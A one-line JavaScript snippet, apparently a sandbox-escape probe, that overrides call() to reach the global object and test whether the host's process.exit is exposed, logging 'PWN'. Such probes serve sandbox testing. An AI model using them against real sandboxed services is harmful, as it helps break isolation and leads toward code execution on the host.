// A function with a call() of the program.
const h = () => 1; h.call = (t) => t; function g() { return h.call(this); } console.log('PWN', typeof g().process.exit);
